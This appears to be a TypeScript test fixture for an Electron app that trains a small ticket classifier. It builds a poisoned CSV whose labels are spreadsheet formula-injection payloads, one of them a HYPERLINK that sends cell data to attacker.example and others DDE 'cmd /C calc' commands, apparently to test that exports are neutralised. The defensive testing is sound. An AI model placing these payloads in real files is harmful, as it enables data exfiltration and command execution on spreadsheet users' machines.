import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Api } from '../../electron/services/api/handlers.ts';
import type { Run } from '../../schemas/run.ts';
import { tinyRunConfig } from './tiny-model.ts';

/** 60 support tickets (ticket_id, body, category) in 4 categories: billing, login, shipping, bug. */
export const TICKETS_CSV = join(import.meta.dirname, '..', 'fixtures', 'datasets', 'support-tickets.csv');

/** Labels a model trained on hostile data predicts: each one a formula a spreadsheet would run. */
export const HOSTILE_LABELS: Record<string, string> = {
  billing: '=HYPERLINK("http://attacker.example/?x="&A1,"billing")',
  login: "@SUM(1+1)*cmd|' /C calc'!A0",
  shipping: '+shipping',
  bug: '-2+3+cmd|\' /C calc\'!A0',
};

/** Copies the tickets to `folder`, with every category replaced by its hostile twin when `hostile`. */
export function writeTickets(path: string, options: { hostile?: boolean } = {}): string {
  if (!options.hostile) {
    copyFileSync(TICKETS_CSV, path);
    return path;
  }
  const lines = readFileSync(TICKETS_CSV, 'utf8').trimEnd().split('\n');
  const rows = lines.slice(1).map((line) => {
    const comma = line.lastIndexOf(',');
    const label = HOSTILE_LABELS[line.slice(comma + 1)];
    return `${line.slice(0, comma)},"${label.replace(/"/g, '""')}"`;
  });
  writeFileSync(path, [lines[0], ...rows].join('\n') + '\n');
  return path;
}

/** New tickets to label (no category column), `count` rows cycling through a few phrasings. */
export function writeNewTickets(path: string, count: number, extraColumns: (index: number) => Record<string, string> = () => ({})): string {
  const bodies = ['I was charged twice, please refund me', 'cannot log in, password reset fails', 'where is my parcel, tracking is empty', 'the app crashes on start', 'hello'];
  const extraNames = Object.keys(extraColumns(0));
  const quote = (cell: string) => (/[",\n\r]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
  const lines = [['id', 'message', ...extraNames].map(quote).join(',')];
  for (let index = 0; index < count; index++) {
    const extra = extraColumns(index);
    lines.push([String(1000 + index), `${bodies[index % bodies.length]} #${index}`, ...extraNames.map((name) => extra[name])].map(quote).join(','));
  }
  writeFileSync(path, lines.join('\n') + '\n');
  return path;
}

/** Trains the tiny model on a tickets CSV (body -> category) through the API and waits for the run. */
export async function trainTickets(api: Api, csv: string, experiment: string, maxEpochs = 3): Promise<Run> {
  const base = tinyRunConfig(csv, { training: { max_epochs: maxEpochs }, experiment });
  const config = { ...base, data: { ...(base.data as object), text_column: 'body', label_column: 'category' } };
  let stop = () => {};
  const finished = new Promise<Run>((resolve) => {
    stop = api.subscribe((notice) => {
      if (notice.kind === 'finished') resolve(notice.run);
    });
  });
  const started = await api.call('runs.start', { config });
  if (!started.ok) throw new Error(started.error.message);
  const run = await finished;
  stop();
  if (run.id !== started.data.runId || run.status !== 'completed') throw new Error(`run ${run.id} ended ${run.status}`);
  return run;
}
